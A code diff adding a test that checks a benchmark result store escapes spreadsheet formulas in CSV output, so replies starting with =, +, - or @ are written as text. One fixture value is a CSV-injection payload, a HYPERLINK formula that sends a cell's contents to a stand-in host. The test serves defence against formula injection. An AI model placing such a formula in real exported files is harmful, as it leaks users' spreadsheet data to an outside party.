@@ -111,3 +111,23 @@ def test_per_pair_rows_go_to_a_csv_beside_the_results(tmp_path):
     assert [r["more"] for r in back] == ["A, with a comma", "C"] and back[1]["less"] == 'D "quoted"'
     assert back[0]["tie"] == "" and back[1]["tie"] == "True"
     assert not list(tmp_path.glob("*.tmp"))
+
+
+def test_a_detail_table_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """A model's reply or a file's word opening with = + - @ is a formula to a spreadsheet: it is
+    written with a leading apostrophe; numbers, negative ones too, are written as numbers."""
+    import csv
+
+    rows = [
+        {"reply": '=HYPERLINK("http://x.example/?"&A1,"B")', "score": -0.25, "word": "-5.5"},
+        {"reply": "@SUM(1+1)", "score": 1.0, "word": "+ve"},
+        {"reply": "(B) the woman", "score": 0.5, "word": "doctor"},
+    ]
+    store = ResultStore(tmp_path)
+    store.append(Result(key="k", model="m", wordset="en/bbq-sample", metric="bbq", figures={"predictions": rows}))
+    written = next(tmp_path.glob("predictions-*.csv"))
+    with open(written, newline="", encoding="utf-8") as fh:
+        read = list(csv.DictReader(fh))
+    assert [r["reply"] for r in read] == ["'" + rows[0]["reply"], "'@SUM(1+1)", "(B) the woman"]
+    assert [r["score"] for r in read] == ["-0.25", "1.0", "0.5"]
+    assert [r["word"] for r in read] == ["-5.5", "'+ve", "doctor"]
